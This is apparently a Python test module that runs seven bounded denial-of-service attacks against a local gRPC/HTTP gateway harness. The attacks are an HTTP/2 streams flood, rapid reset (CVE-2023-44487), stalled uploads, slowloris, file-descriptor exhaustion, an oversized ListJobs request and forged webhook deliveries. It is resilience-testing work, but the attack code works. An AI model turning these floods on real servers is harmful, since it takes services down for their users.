"""The attacks of issue 13, each bounded in time and size (standard library + Debian's grpcio).

Each attack is a function attack(target, stop_at, knobs) -> {note: value} run on its own thread
while the honest callers run; target has .grpc_port, .http_port, .sim (harness.Sim) and .gw
(harness.Gateway). They stop at the monotonic time stop_at at the latest and close what they
opened. Sizes come from knobs (dict of ints, see DEFAULTS) so a run can be scaled down.
"""
import os
import random
import socket
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "integration"))
import h2raw  # noqa: E402
import harness  # noqa: E402
from harness import jobs_pb2  # noqa: E402

DEFAULTS = {
    "flood_conns": 40,          # streams flood: connections
    "flood_streams": 1000,      # streams per connection (never acknowledging SETTINGS)
    "flood_partial": 60 << 10,  # bytes of a message sent per stream (of 1 MiB announced)
    "flood_ack": 0,             # 1: acknowledge SETTINGS (so MAX_CONCURRENT_STREAMS applies)
    "reset_conns": 8,           # rapid reset: connections
    "reset_batch": 200,         # HEADERS+DATA+RST_STREAM triples per write
    "upload_streams": 400,      # stalled uploads: UploadVideo streams
    "upload_mib": 8,            # MiB each sends before pausing
    "upload_channels": 8,       # gRPC channels they spread over
    "slowloris_conns": 4000,    # slowloris: HTTP connections trickling a request
    "fd_limit": 256,            # fd pressure: the gateway's RLIMIT_NOFILE (soft = hard)
    "fd_sockets": 600,          # fd pressure: idle sockets opened to the HTTP port
    "listjobs_states": 1000000,  # ListJobs bomb: repeated states values
    "webhook_threads": 8,       # webhook flood: posting threads (keep-alive connections)
    "webhook_max": 120000,      # webhook flood: deliveries at most
}

UNIMPL = "/animate3d.v1.Jobs/UploadVideo"


def _sleep_until(stop_at, step=0.1):
    time.sleep(max(0.0, min(step, stop_at - time.monotonic())))


def streams_flood(t, stop_at, k):
    """Unauthenticated connections that never ACK SETTINGS (so MAX_CONCURRENT_STREAMS is never in
    force in gRPC 1.51), each opening flood_streams UploadVideo streams that announce a 1 MiB
    message and send flood_partial bytes of it, then hold them."""
    conns, opened, refused_conns = [], 0, 0
    chunk = b"\0" * k["flood_partial"]
    try:
        for _ in range(k["flood_conns"]):
            if time.monotonic() >= stop_at:
                break
            try:
                conns.append(h2raw.Conn("127.0.0.1", t.grpc_port, timeout=2,
                                        ack_settings=bool(k["flood_ack"])))
            except OSError:
                refused_conns += 1
        for c in conns:
            for _ in range(k["flood_streams"]):
                if time.monotonic() >= stop_at:
                    break
                sid = c.new_stream()
                body = h2raw.grpc_message_prefix(1 << 20) + chunk
                try:
                    c.send(h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, sid,
                                       h2raw.grpc_headers(UNIMPL)) +
                           b"".join(h2raw.frame(h2raw.DATA, 0, sid, body[i:i + 16384])
                                    for i in range(0, len(body), 16384)))
                    opened += 1
                except OSError:
                    break       # the server closed it, or its window is full (send timeout)
                if sid % 64 == 1 and not c.poll():
                    break
        while time.monotonic() < stop_at:
            for c in conns:
                c.poll()
            _sleep_until(stop_at, 0.5)
    finally:
        closed = sum(1 for c in conns if not c.poll())
        for c in conns:
            c.close()
    return {"streams sent": opened, "streams reset by gw": sum(c.rst for c in conns),
            "conns closed by gw": closed, "conns refused": refused_conns}


def rapid_reset(t, stop_at, k):
    """HEADERS + DATA + RST_STREAM(CANCEL) as fast as the socket takes them (CVE-2023-44487), on
    reset_conns connections, each reconnecting when the gateway closes it, until the end."""
    sent = [0]
    closed = [0]

    def one():
        while time.monotonic() < stop_at:
            try:
                c = h2raw.Conn("127.0.0.1", t.grpc_port, timeout=2, ack_settings=False)
            except OSError:
                closed[0] += 1
                _sleep_until(stop_at, 0.05)
                continue
            try:
                while time.monotonic() < stop_at and c.next_stream < (1 << 31) - 2 * k["reset_batch"]:
                    out = []
                    for _ in range(k["reset_batch"]):
                        sid = c.new_stream()
                        body = h2raw.grpc_message_prefix(1 << 20) + b"\0" * 1024
                        out.append(h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, sid,
                                               h2raw.grpc_headers(UNIMPL)))
                        out.append(h2raw.frame(h2raw.DATA, 0, sid, body))
                        out.append(h2raw.frame(h2raw.RST_STREAM, 0, sid, h2raw.CANCEL.to_bytes(4, "big")))
                    c.send(b"".join(out))
                    sent[0] += k["reset_batch"]
                    if not c.poll():
                        break
            except OSError:
                pass
            finally:
                c.close()
            if time.monotonic() < stop_at:
                closed[0] += 1

    threads = [threading.Thread(target=one, daemon=True) for _ in range(k["reset_conns"])]
    for th in threads:
        th.start()
    for th in threads:
        th.join(max(0.0, stop_at - time.monotonic()) + 5)
    return {"streams reset": sent[0], "conns closed by gw (reconnected)": closed[0]}


def stalled_uploads(t, stop_at, k):
    """upload_streams UploadVideo streams (team-a), each sending upload_mib MiB then pausing until
    the attack ends; then cancelled."""
    import grpc
    release = threading.Event()
    chunk = b"\0" * (1 << 20)
    channels = [grpc.insecure_channel("127.0.0.1:%d" % t.grpc_port,
                                      options=[("grpc.max_send_message_length", 8 << 20)])
                for _ in range(k["upload_channels"])]
    outcomes = {}
    lock = threading.Lock()

    def gen(i):
        yield jobs_pb2.UploadVideoRequest(name="stall%d.mp4" % i, size=(k["upload_mib"] + 1) << 20)
        for _ in range(k["upload_mib"]):
            yield jobs_pb2.UploadVideoRequest(chunk=chunk)
        release.wait(max(0.0, stop_at - time.monotonic()))

    futs = []
    for i in range(k["upload_streams"]):
        stub = harness.jobs_pb2_grpc.JobsStub(channels[i % len(channels)])
        futs.append(stub.UploadVideo.future(gen(i), timeout=max(1.0, stop_at - time.monotonic() + 5),
                                            metadata=harness.Gateway.md("team-a")))
    while time.monotonic() < stop_at:
        _sleep_until(stop_at, 0.5)
    release.set()
    for f in futs:
        f.cancel()
    for f in futs:
        try:
            f.result(timeout=1)
            code = "OK"
        except grpc.FutureCancelledError:
            code = "CANCELLED(client)"
        except grpc.RpcError as e:
            code = e.code().name
        except Exception as e:  # noqa: BLE001  (timeout waiting: counted as such)
            code = type(e).__name__
        with lock:
            outcomes[code] = outcomes.get(code, 0) + 1
    for ch in channels:
        ch.close()
    return {"outcomes": ",".join("%s=%d" % kv for kv in sorted(outcomes.items()))}


def slowloris(t, stop_at, k):
    """slowloris_conns HTTP connections, each sending one byte of a request every second."""
    socks, refused = [], 0
    line = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 4000
    for _ in range(k["slowloris_conns"]):
        if time.monotonic() >= stop_at:
            break
        s = socket.socket()
        s.settimeout(0.5)
        try:
            s.connect(("127.0.0.1", t.http_port))
            s.setblocking(False)
            socks.append(s)
        except OSError:
            refused += 1
            s.close()
    pos, reset = 0, 0
    while time.monotonic() < stop_at and socks:
        alive = []
        for s in socks:
            try:
                s.send(line[pos:pos + 1])
                alive.append(s)
            except (BlockingIOError, InterruptedError):
                alive.append(s)
            except OSError:
                reset += 1
                s.close()
        socks = alive
        pos = (pos + 1) % len(line)
        _sleep_until(stop_at, 1.0)
    held = len(socks)
    for s in socks:
        s.close()
    return {"opened": held + reset, "closed by gw": reset, "connect failed": refused}


def fd_pressure(t, stop_at, k):
    """fd_sockets idle sockets to the HTTP port of a gateway started with RLIMIT_NOFILE =
    fd_limit (the runner starts it so), held until the end."""
    socks, failed = [], 0
    for _ in range(k["fd_sockets"]):
        if time.monotonic() >= stop_at:
            break
        s = socket.socket()
        s.settimeout(0.5)
        try:
            s.connect(("127.0.0.1", t.http_port))
            socks.append(s)
        except OSError:
            failed += 1
            s.close()
    # New gRPC connections arriving while the fds are gone: in gRPC core 1.51 one accept4() failing
    # with EMFILE ends its listener for good (grpc/grpc#20418).
    grpc_tries = 0
    while time.monotonic() < stop_at:
        if grpc_tries < 5:
            grpc_tries += 1
            try:
                socket.create_connection(("127.0.0.1", t.grpc_port), timeout=0.5).close()
            except OSError:
                pass
        _sleep_until(stop_at, 0.5)
    for s in socks:
        s.close()
    return {"idle sockets": len(socks), "connect failed": failed}


def listjobs_bomb(t, stop_at, k):
    """One ListJobs from the read-only viewer key with listjobs_states repeated states."""
    import grpc
    req = jobs_pb2.ListJobsRequest(states=[jobs_pb2.PROGRESS] * k["listjobs_states"])
    ch = grpc.insecure_channel("127.0.0.1:%d" % t.grpc_port,
                               options=[("grpc.max_send_message_length", 64 << 20)])
    t0 = time.monotonic()
    try:
        harness.jobs_pb2_grpc.JobsStub(ch).ListJobs(
            req, timeout=max(1.0, stop_at - time.monotonic()), metadata=harness.Gateway.md("viewer"))
        code = "OK"
    except grpc.RpcError as e:
        code = e.code().name
    ms = (time.monotonic() - t0) * 1000
    ch.close()
    while time.monotonic() < stop_at:
        _sleep_until(stop_at, 0.5)
    return {"bomb": "%s in %.0f ms" % (code, ms), "bytes": len(req.SerializeToString())}


def _rand_rid():
    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    return "".join(random.choice(alphabet) for _ in range(22))


def webhook_flood(t, stop_at, k):
    """Forged job.completed deliveries with random rids (signature = the client id, which is not
    a secret), on keep-alive connections."""
    import http.client
    import json
    before = t.sim.count("GET /status/{rids}")
    sent, codes = [0], {}
    lock = threading.Lock()
    path = "/webhooks/animate3d/sim"

    def poster():
        conn = http.client.HTTPConnection("127.0.0.1", t.http_port, timeout=2)
        while time.monotonic() < stop_at:
            with lock:
                if sent[0] >= k["webhook_max"]:
                    break
                sent[0] += 1
            body = json.dumps({"eventType": "job.completed",
                               "data": {"taskId": _rand_rid(), "status": "success"}})
            try:
                conn.request("POST", path, body=body,
                             headers={"Content-Type": "application/json",
                                      "X-DeepMotion-Signature": harness.CLIENT_ID})
                r = conn.getresponse()
                r.read()
                st = r.status
            except (OSError, http.client.HTTPException):
                st = "error"
                conn.close()
                conn = http.client.HTTPConnection("127.0.0.1", t.http_port, timeout=2)
            with lock:
                codes[st] = codes.get(st, 0) + 1
        conn.close()

    threads = [threading.Thread(target=poster, daemon=True) for _ in range(k["webhook_threads"])]
    for th in threads:
        th.start()
    for th in threads:
        th.join(max(0.0, stop_at - time.monotonic()) + 5)
    time.sleep(0.5)
    return {"posted": sent[0], "answers": ",".join("%s=%d" % (a, b) for a, b in sorted(codes.items(), key=str)),
            "upstream GET /status": t.sim.count("GET /status/{rids}") - before}


ATTACKS = [
    ("streams flood", streams_flood),
    ("rapid reset", rapid_reset),
    ("stalled uploads", stalled_uploads),
    ("slowloris", slowloris),
    ("fd pressure", fd_pressure),
    ("ListJobs bomb", listjobs_bomb),
    ("webhook flood", webhook_flood),
]
